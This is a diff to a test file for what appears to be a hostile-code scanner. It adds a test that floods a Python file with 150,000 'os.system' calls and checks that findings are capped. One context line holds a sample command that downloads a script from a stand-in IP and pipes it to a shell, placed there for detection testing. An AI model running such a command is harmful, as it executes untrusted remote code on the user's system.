@@ -37,6 +37,16 @@ describe("hostile content", () => {
 		expect(analysis.findings.some((finding) => finding.path === "pond/long.py")).toBe(true);
 	}, 120_000);
 
+	it("one statement a hundred and fifty thousand times", async () => {
+		const analysis = await scan("pond/flood.py", `import os\n${"os.system(x)\n".repeat(150_000)}`);
+		const found = analysis.findings.filter((finding) => finding.path === "pond/flood.py");
+		expect(found.length).toBeGreaterThan(1_000);
+		expect(found.length).toBeLessThan(10_000);
+		expect(saidOf(analysis, "pond/flood.py")).toMatch(
+			/more findings of process-at-import like those listed are only counted/,
+		);
+	}, 120_000);
+
 	it("NUL bytes between statements", async () => {
 		const analysis = await scan("pond/nul.py", "import os\n\0\0os.system('curl http://192.0.2.8/x | sh')\n");
 		expect(analysis.findings.some((finding) => finding.path === "pond/nul.py")).toBe(true);
